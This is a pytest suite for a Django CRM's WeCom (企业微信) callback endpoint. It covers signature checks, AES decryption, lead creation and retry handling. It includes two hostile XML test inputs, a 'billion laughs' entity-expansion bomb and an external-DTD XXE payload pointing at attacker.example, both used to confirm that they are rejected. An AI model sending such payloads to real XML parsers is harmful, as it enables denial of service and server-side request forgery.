"""WeCom (企业微信) callbacks (SPEC C1.1) end to end through `/hooks/<slug>`.

The deliveries are encrypted and signed by `WecomStandIn`, a WeCom server written here with
`cryptography`'s own PKCS#7 — independently of the code under test — and checked once against
Tencent's published WXBizMsgCrypt sample vectors, so that both sides cannot share one mistake.
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import struct
from dataclasses import dataclass

import pytest
from cryptography.hazmat.primitives import padding
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from django.core.management import CommandError, call_command

from salesloop.crm.models import Contact, Lead
from salesloop.intake.models import InboundEvent, Source
from salesloop.intake.services import source_create

pytestmark = pytest.mark.django_db

TOKEN = "q1w2e3r4Token"
CORP_ID = "ww8a9b7c6d5e4f3a21"
CUSTOMER = "wmAJ2GCAAAXtWyujaWJHDDGi0mACH71w"
CREATED = 1764200000

# Tencent's sample (WXBizMsgCrypt Sample.py / Sample.cs, developer.work.weixin.qq.com 加解密方案).
SAMPLE_TOKEN = "QDG6eK"
SAMPLE_AES_KEY = "jWmYm7qr5nMoAUwZRjGtBxmz3KA1tkAj3ykkR6q2B2C"
SAMPLE_CORP_ID = "wx5823bf96d3bd56c7"
SAMPLE_VERIFY = {
    "msg_signature": "5c45ff5e21c57e6ad56bac8758b79b1d9ac89fd3",
    "timestamp": "1409659589",
    "nonce": "263014780",
    "echostr": "P9nAzCzyDtyTWESHep1vC5X9xho/qYX3Zpb4yKa9SKld1DsH3Iyt3tP3zNdtp+4RPcs8TgAE7OaBO+FZXvnaqQ==",
}
SAMPLE_CALLBACK_QUERY = (
    "msg_signature=477715d11cdb4164915debcba66cb864d751f3e6&timestamp=1409659813&nonce=1372623149"
)
SAMPLE_CALLBACK_BODY = (
    "<xml><ToUserName><![CDATA[wx5823bf96d3bd56c7]]></ToUserName><Encrypt><![CDATA["
    "RypEvHKD8QQKFhvQ6QleEB4J58tiPdvo+rtK1I9qca6aM/wvqnLSV5zEPeusUiX5L5X/0lWfrf0QADHHhGd3QczcdCUpj911L3vg3W"
    "/sYYvuJTs3TUUkSUXxaccAS0qhxchrRYt66wiSpGLYL42aM6A8dTT+6k4aSknmPj48kzJs8qLjvd4Xgpue06DOdnLxAUHzM6+kDZ+"
    "HMZfJYuR+LtwGc2hgf5gsijff0ekUNXZiqATP7PF5mZxZ3Izoun1s4zG4LUMnvw2r+KqCKIw+3IQH03v+BCA9nMELNqbSf6tiWSr"
    "XJB3LAVGUcallcrw8V2t9EL4EhzJWrQUax5wLVMNS0+rUPA3k22Ncx4XXZS9o0MBH27Bo6BpNelZpS+/uh9KsNlY6bHCmJU9p8g7"
    "m3fVKn28H3KDYA5Pl/T8Z1ptDAVe0lXdQ2YoyyH2uyPIGHBZZIs2pDBS8R07+qN+E7Q==]]></Encrypt>"
    "<AgentID><![CDATA[218]]></AgentID></xml>"
)

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY a "aaaaaaaaaa">'
    '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    "<xml><MsgType>event</MsgType><Event>change_external_contact</Event>"
    "<ChangeType>add_external_contact</ChangeType><ExternalUserID>&c;</ExternalUserID></xml>"
)

# No entity at all, only an external DTD: the XXE / SSRF shape.
EXTERNAL_DTD = (
    '<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">'
    "<xml><MsgType>event</MsgType><ExternalUserID>wmX</ExternalUserID></xml>"
)


def encoding_aes_key_make() -> str:
    """A real EncodingAESKey: 43 base64 characters that decode (with "=") to 32 random bytes."""
    return base64.b64encode(os.urandom(32)).decode()[:43]


@dataclass
class WecomStandIn:
    """WeCom's side of the protocol: encrypts and signs as WeCom's servers do."""

    token: str
    aes_key: str
    corp_id: str

    def encrypt(self, message: bytes, *, receive_id: str | None = None, aes_key: str | None = None) -> str:
        key = base64.b64decode((aes_key or self.aes_key) + "=")
        framed = (
            os.urandom(16)
            + struct.pack(">I", len(message))
            + message
            + (self.corp_id if receive_id is None else receive_id).encode()
        )
        padder = padding.PKCS7(256).padder()  # 32-byte blocks, as WXBizMsgCrypt pads
        padded = padder.update(framed) + padder.finalize()
        encryptor = Cipher(algorithms.AES(key), modes.CBC(key[:16])).encryptor()
        return base64.b64encode(encryptor.update(padded) + encryptor.finalize()).decode()

    def query(self, encrypted: str, *, token: str | None = None) -> dict[str, str]:
        timestamp, nonce = str(CREATED + 5), os.urandom(4).hex()
        parts = sorted([token or self.token, timestamp, nonce, encrypted])
        signature = hashlib.sha1("".join(parts).encode()).hexdigest()  # noqa: S324 -- WeCom's protocol
        return {"msg_signature": signature, "timestamp": timestamp, "nonce": nonce}

    def verify_url(self, client, source: Source, echo: str, **tamper: str):
        echostr = self.encrypt(
            echo.encode(), receive_id=tamper.get("receive_id"), aes_key=tamper.get("aes_key")
        )
        return client.get(
            f"/hooks/{source.slug}", {**self.query(echostr, token=tamper.get("token")), "echostr": echostr}
        )

    def post(self, client, source: Source, event_xml: str, **tamper: str):
        encrypted = self.encrypt(event_xml.encode(), receive_id=tamper.get("receive_id"))
        query = self.query(encrypted, token=tamper.get("token"))
        if tamper.get("flip"):  # altered in transit, after signing
            encrypted = encrypted[:10] + ("A" if encrypted[10] != "A" else "B") + encrypted[11:]
        envelope = tamper.get("envelope") or (
            f"<xml><ToUserName><![CDATA[{self.corp_id}]]></ToUserName>"
            f"<Encrypt><![CDATA[{encrypted}]]></Encrypt><AgentID><![CDATA[1000002]]></AgentID></xml>"
        )
        path = f"/hooks/{source.slug}?" + "&".join(f"{k}={v}" for k, v in query.items())
        return client.post(path, envelope.encode(), content_type="text/xml")


def contact_event(
    external_user_id: str = CUSTOMER,
    *,
    change_type: str = "add_external_contact",
    create_time: int = CREATED,
    state: str = "douyin_618",
) -> str:
    """A decrypted "change_external_contact" event as WeCom documents it (客户联系 > 事件格式)."""
    return (
        f"<xml><ToUserName><![CDATA[{CORP_ID}]]></ToUserName><FromUserName><![CDATA[sys]]></FromUserName>"
        f"<CreateTime>{create_time}</CreateTime><MsgType><![CDATA[event]]></MsgType>"
        "<Event><![CDATA[change_external_contact]]></Event>"
        f"<ChangeType><![CDATA[{change_type}]]></ChangeType><UserID><![CDATA[zhangsan]]></UserID>"
        f"<ExternalUserID><![CDATA[{external_user_id}]]></ExternalUserID><State><![CDATA[{state}]]></State>"
        "<WelcomeCode><![CDATA[WELCOMECODE]]></WelcomeCode></xml>"
    )


@pytest.fixture
def aes_key() -> str:
    return encoding_aes_key_make()


@pytest.fixture
def wecom_source(org, aes_key) -> Source:
    return source_create(
        actor=None,
        kind="wecom",
        name="企业微信-渠道活码",
        wecom_token=TOKEN,
        wecom_aes_key=aes_key,
        wecom_corp_id=CORP_ID,
    )


@pytest.fixture
def wecom(aes_key) -> WecomStandIn:
    return WecomStandIn(token=TOKEN, aes_key=aes_key, corp_id=CORP_ID)


@pytest.fixture
def sample_source(org) -> Source:
    return source_create(
        actor=None,
        kind="wecom",
        name="企业微信官方样例",
        wecom_token=SAMPLE_TOKEN,
        wecom_aes_key=SAMPLE_AES_KEY,
        wecom_corp_id=SAMPLE_CORP_ID,
    )


class TestUrlVerification:
    def test_it_answers_the_decrypted_echostr_bare(self, client, wecom_source, wecom):
        response = wecom.verify_url(client, wecom_source, "6412847093715260930")
        assert response.status_code == 200
        assert response.content == b"6412847093715260930"
        assert response["Content-Type"].startswith("text/plain")

    def test_it_verifies_tencents_sample_vector(self, client, sample_source):
        response = client.get(f"/hooks/{sample_source.slug}", SAMPLE_VERIFY)
        assert (response.status_code, response.content) == (200, b"1616140317555161061")

    @pytest.mark.parametrize("tamper", ["token", "missing"])
    def test_a_wrong_or_missing_signature_is_401(self, client, wecom_source, wecom, tamper):
        if tamper == "missing":
            response = client.get(f"/hooks/{wecom_source.slug}", {"echostr": wecom.encrypt(b"1")})
        else:
            response = wecom.verify_url(client, wecom_source, "1", token="not-our-token")
        assert response.status_code == 401
        assert "msg_signature" in response.json()["detail"]

    def test_an_echostr_for_another_corp_is_refused(self, client, wecom_source, wecom):
        response = wecom.verify_url(client, wecom_source, "1", receive_id="wwSomeOtherCorp")
        assert response.status_code == 401
        assert "wwSomeOtherCorp" in response.json()["detail"]

    def test_an_echostr_under_another_aes_key_is_400(self, client, wecom_source, wecom):
        response = wecom.verify_url(client, wecom_source, "1", aes_key=encoding_aes_key_make())
        assert response.status_code == 400
        assert "EncodingAESKey" in response.json()["detail"] or "decrypt" in response.json()["detail"]

    def test_a_key_of_the_right_length_that_is_not_base64_is_refused_at_configuration(self, org):
        from django.core.exceptions import ValidationError

        with pytest.raises(ValidationError) as refused:
            source_create(
                actor=None,
                kind="wecom",
                name="坏钥匙",
                wecom_token=TOKEN,
                wecom_aes_key="-" * 43,
                wecom_corp_id=CORP_ID,
            )
        assert "wecom_aes_key" in refused.value.message_dict


class TestCallbacks:
    def test_an_added_customer_becomes_a_lead_known_by_the_wecom_id(self, client, wecom_source, wecom):
        response = wecom.post(client, wecom_source, contact_event())
        # WeCom's acknowledgement is the bare word
        assert (response.status_code, response.content) == (200, b"success")
        event = InboundEvent.objects.get()
        assert event.status == "created" and str(event.pk) == response["X-Salesloop-Event-Id"]
        assert event.external_id == f"{CUSTOMER}:add_external_contact:{CREATED}"
        lead = Lead.objects.get()
        assert (event.lead, lead.source) == (lead, "wecom")
        assert lead.contact.wecom_external_id == CUSTOMER
        assert lead.contact.phone == ""
        # named by the id's tail, since a corp's ids share their head
        assert lead.contact.name == "企业微信客户 wm…0mACH71w"
        assert event.normalised["message"] == "douyin_618"  # the 渠道活码 state
        # stored raw first: the decrypted event as JSON with its XML verbatim; the envelope as evidence
        stored = json.loads(event.body)
        assert (stored["ExternalUserID"], stored["UserID"], stored["WelcomeCode"]) == (
            CUSTOMER,
            "zhangsan",
            "WELCOMECODE",
        )
        assert stored["_raw_xml"] == contact_event()
        assert "<Encrypt><![CDATA[" in event.headers["X-Wecom-Raw"]
        assert len(event.headers["X-Wecom-Msg-Signature"]) == 40

    def test_a_half_added_customer_is_a_lead_too(self, client, wecom_source, wecom):
        wecom.post(client, wecom_source, contact_event(change_type="add_half_external_contact"))
        assert InboundEvent.objects.get().status == "created"
        assert Lead.objects.count() == 1

    def test_a_retry_of_the_same_event_creates_nothing(self, client, wecom_source, wecom):
        # WeCom retries with fresh random bytes and nonce: the ciphertext differs, the event does not
        first = wecom.post(client, wecom_source, contact_event())
        again = wecom.post(client, wecom_source, contact_event())
        assert again.content == b"success"
        assert again["X-Salesloop-Event-Id"] == first["X-Salesloop-Event-Id"]
        assert (Lead.objects.count(), InboundEvent.objects.count(), Contact.objects.count()) == (1, 1, 1)

    def test_a_later_add_of_the_same_customer_is_a_touch_on_the_lead(self, client, wecom_source, wecom):
        wecom.post(client, wecom_source, contact_event())
        response = wecom.post(client, wecom_source, contact_event(create_time=CREATED + 86400))
        assert response["X-Salesloop-Event-Status"] == "touch"
        first, later = InboundEvent.objects.order_by("id")
        assert later.lead_id == first.lead_id is not None
        assert Lead.objects.count() == 1

    def test_a_deleted_customer_is_stored_but_creates_no_lead(self, client, wecom_source, wecom):
        response = wecom.post(client, wecom_source, contact_event(change_type="del_external_contact"))
        assert (response.status_code, response.content) == (200, b"success")
        event = InboundEvent.objects.get()
        assert (event.status, event.lead) == ("ignored", None)
        assert event.external_id == f"{CUSTOMER}:del_external_contact:{CREATED}"
        assert "del_external_contact" in event.error
        assert not Lead.objects.exists()
        # and a retry leaves it as it was
        wecom.post(client, wecom_source, contact_event(change_type="del_external_contact"))
        assert list(InboundEvent.objects.values_list("status", flat=True)) == ["ignored"]

    def test_tencents_sample_callback_decrypts_and_is_kept_as_ignored(self, client, sample_source):
        path = f"/hooks/{sample_source.slug}?{SAMPLE_CALLBACK_QUERY}"
        response = client.post(path, SAMPLE_CALLBACK_BODY, content_type="text/xml")
        assert (response.status_code, response.content) == (200, b"success")
        event = InboundEvent.objects.get()
        # a text message, not a customer event: kept under its MsgId, no lead
        assert (event.status, event.external_id) == ("ignored", "msg:4561255354251345929")
        assert "<Content><![CDATA[hello]]></Content>" in json.loads(event.body)["_raw_xml"]
        assert not Lead.objects.exists()

    @pytest.mark.parametrize(
        ("tamper", "status"),
        [({"token": "not-our-token"}, 401), ({"flip": "yes"}, 401), ({"receive_id": "wwSomeOtherCorp"}, 401)],
    )
    def test_unauthentic_callbacks_are_refused_and_store_nothing(
        self, client, wecom_source, wecom, tamper, status
    ):
        response = wecom.post(client, wecom_source, contact_event(), **tamper)
        assert response.status_code == status
        assert "detail" in response.json()
        assert not InboundEvent.objects.exists() and not Lead.objects.exists()

    @pytest.mark.parametrize(
        "envelope",
        [
            "not xml at all",
            "<xml><Encrypt>unclosed</xml>",
            "<xml><AgentID>1</AgentID></xml>",
            BILLION_LAUGHS,
            EXTERNAL_DTD,
        ],
    )
    def test_a_malformed_envelope_is_400_not_500(self, client, wecom_source, wecom, envelope):
        response = wecom.post(client, wecom_source, contact_event(), envelope=envelope)
        assert response.status_code == 400
        assert response.json()["detail"]
        assert not InboundEvent.objects.exists()

    @pytest.mark.parametrize(
        ("event_xml", "reason"),
        [
            (BILLION_LAUGHS, "DOCTYPE"),
            (EXTERNAL_DTD, "DOCTYPE"),
            ("<xml><MsgType>event</MsgType>", "not well-formed"),
        ],
    )
    def test_a_signed_event_that_is_not_safe_xml_is_refused_and_kept_as_failed(
        self, client, wecom_source, wecom, event_xml, reason
    ):
        response = wecom.post(client, wecom_source, event_xml)
        assert response.status_code == 400
        assert reason in response.json()["detail"]
        event = InboundEvent.objects.get()
        assert (event.status, event.body) == ("failed", event_xml)
        assert reason in event.error
        assert not Lead.objects.exists()

    def test_a_doctype_only_mentioned_in_cdata_is_just_text(self, client, wecom_source, wecom):
        wecom.post(client, wecom_source, contact_event(state="<!DOCTYPE html> 官网"))
        assert InboundEvent.objects.get().status == "created"


class TestSourceCommand:
    def test_create_prints_the_id_slug_and_hook_url(self, aes_key):
        out = io.StringIO()
        call_command(
            "source",
            "create",
            "--kind",
            "wecom",
            "--name",
            "企业微信-展会活码",
            "--wecom-token",
            TOKEN,
            "--wecom-aes-key",
            aes_key,
            "--wecom-corp-id",
            CORP_ID,
            stdout=out,
        )
        answer = json.loads(out.getvalue())
        source = Source.objects.get(pk=answer["id"])
        assert (source.kind, source.wecom_aes_key, source.wecom_corp_id) == ("wecom", aes_key, CORP_ID)
        assert answer["slug"] == source.slug
        assert answer["hook_url"].endswith(f"/hooks/{source.slug}")

    def test_a_short_aes_key_is_refused_naming_the_option(self):
        with pytest.raises(CommandError, match="--wecom-aes-key"):
            call_command(
                "source",
                "create",
                "--kind",
                "wecom",
                "--name",
                "N",
                "--wecom-token",
                TOKEN,
                "--wecom-aes-key",
                "too-short",
                "--wecom-corp-id",
                CORP_ID,
                stdout=io.StringIO(),
            )
        assert not Source.objects.exists()
